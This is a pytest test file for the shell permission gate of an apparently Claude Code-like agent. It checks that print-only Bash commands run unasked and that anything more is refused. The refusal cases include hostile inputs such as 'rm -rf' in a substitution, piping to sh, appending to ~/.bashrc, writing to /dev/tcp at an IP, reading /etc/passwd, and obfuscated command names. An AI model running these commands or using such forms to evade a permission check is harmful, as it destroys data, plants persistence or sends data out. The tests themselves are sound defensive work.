"""Step 7b of the gate: a Bash command made only of echo / printf / pwd / true / false runs unasked, as in Claude Code
— and nothing else rides along: a redirection, a substitution, another command, a code-running word or a quoted
command name still asks (no `ask` callback here: asking means refusing)."""

from __future__ import annotations

from pathlib import Path

import pytest

from mini_claude.permissions import PermissionGate, PermissionMode, RuleSet
from mini_claude.tools.shell import BashTool


def _gate(tmp_path: Path) -> PermissionGate:
    return PermissionGate(PermissionMode.DEFAULT, RuleSet(), ask=None, cwd=tmp_path,
                          home=tmp_path / "home")


@pytest.mark.parametrize("command", [
    "echo 'Hello from bash!'", "echo hi && pwd", "printf '%s\\n' a b", "true; false", "echo $HOME",
    "printf -v x '%s' y", "echo a | echo b",
])
async def test_printing_commands_run_unasked(tmp_path: Path, command: str) -> None:
    decision = await _gate(tmp_path).check(BashTool(), {"command": command})
    assert decision.allowed and decision.reason == "only prints (echo, printf, pwd)"


@pytest.mark.parametrize("command", [
    "echo hi > out.txt", "echo hi >> ~/.bashrc", "echo $(rm -rf x)", "echo `id`", "echo hi; rm x", "echo hi | sh",
    "/bin/echo hi", "'echo' hi", "e\\cho hi", "echo hi | tee f", "printf x > /dev/tcp/1.2.3.4/80", "ech$x hi",
    "eval echo hi", "echo hi &> f", "echo <(cat /etc/passwd)", "echo ${x:=$(id)}", "pwd > f", "cat f",
])
async def test_anything_more_still_asks(tmp_path: Path, command: str) -> None:
    decision = await _gate(tmp_path).check(BashTool(), {"command": command})
    assert not decision.allowed
